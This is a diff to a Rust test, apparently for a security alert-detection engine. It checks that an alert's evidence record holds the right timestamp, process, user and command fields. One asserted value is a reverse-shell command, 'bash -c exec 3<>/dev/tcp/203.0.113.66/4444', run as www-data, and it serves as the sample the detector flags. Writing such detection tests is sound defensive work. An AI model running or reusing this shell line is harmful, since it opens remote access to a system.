@@ -71,13 +71,15 @@ fn what_is_in_force_is_a_rule_file() {
 fn an_alert_has_its_evidence() {
     let run = detect_with("severity = \"high\"\n");
     let alert = &run.documents()[0];
-    // The record of the kernel: `grep -n ':3163)' corpus/fleet-day/audit.log`.
+    // As `xzgrep 'node=web01.*:3163)' corpus/fleet-day/audit.log.xz` shows it.
     let sample = &alert["rareport"]["evidence"][0];
     assert_eq!(sample["@timestamp"], "2026-06-04T09:36:05.716Z");
     assert_eq!(sample["command"], "ausearch -a 3163 --node web01");
     assert_eq!(sample["process"]["pid"], 1971);
     assert_eq!(sample["process"]["parent"]["pid"], 396);
     assert_eq!(sample["process"]["executable"], "/usr/bin/bash");
+    // Nobody had logged in.
+    assert_eq!(sample["user"], serde_json::json!({"name": "www-data"}));
     assert_eq!(sample["process"]["title"], "bash -c exec 3<>/dev/tcp/203.0.113.66/4444");
     // The bucket of 09:30 ends at 09:45, and the next execution is at 10:00.
     assert_eq!(alert["kibana.alert.original_time"], "2026-06-04T09:30:00.000Z");
